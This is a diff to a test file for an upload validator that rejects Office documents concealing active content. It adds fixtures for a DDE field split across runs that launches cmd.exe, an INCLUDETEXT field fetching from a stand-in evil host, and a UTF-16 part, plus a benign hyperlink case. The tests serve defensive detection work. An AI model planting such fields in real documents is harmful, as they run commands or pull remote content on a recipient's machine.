@@ -71,6 +71,12 @@ OFFICE = {
         "</Types>")}, "program"),
     "a page poured into it": ({"word/_rels/document.xml.rels": relations(
         "aFChunk", "a.html", "Internal")}, "inside"),
+    "a command to another program, in pieces": ({"word/footer1.xml": (
+        '<w:p><w:fldChar w:fldCharType="begin"/><w:instrText xml:space="preserve"> DD</w:instrText>'
+        '<w:instrText>EAUTO c:\\\\cmd.exe</w:instrText><w:fldChar w:fldCharType="end"/></w:p>'
+    )}, "program"),
+    "a text fetched from elsewhere": ({"word/header1.xml": (
+        '<w:fldSimple w:instr=" includetext http://evil.example/a"/>')}, "outside"),
     "an archive within": ({"word/media/a.zip": archive(a="x")}, "inside"),
     "a document within": ({"word/embeddings/a.docx": docx()}, "inside"),
     "a workbook within, with its macros": ({"word/embeddings/a.xlsx": office(
@@ -88,12 +94,21 @@ def test_office_documents_that_hide_something(parts, code):
     assert error.messages[0].endswith(AS_PDF)
 
 
+def test_letters_that_nobody_could_read():
+    hidden = '<?xml version="1.0" encoding="UTF-16"?><w:p/>'.encode("utf-16")
+    assert refusal("a.docx", with_parts(docx(), {"word/a.xml": hidden})).code == "content"
+
+
 def test_what_office_documents_may_hold():
     """Links to click on, and the workbook behind a chart."""
     content = with_parts(docx(), {
         "word/_rels/document.xml.rels": relations("hyperlink", "https://caf.example"),
         "word/embeddings/Microsoft_Excel_Sheet.xlsx": xlsx(),
         "word/media/image1.png": b"\x89PNG",
+        "word/footer1.xml": (
+            '<w:p><w:fldChar w:fldCharType="begin"/><w:instrText> HYPERLINK "https://caf.example/'
+            'dde link" </w:instrText><w:fldChar w:fldCharType="end"/><w:fldSimple w:instr="PAGE"/>'
+        ),
     })  # fmt: skip
     assert refusal("a.docx", content) is None
 
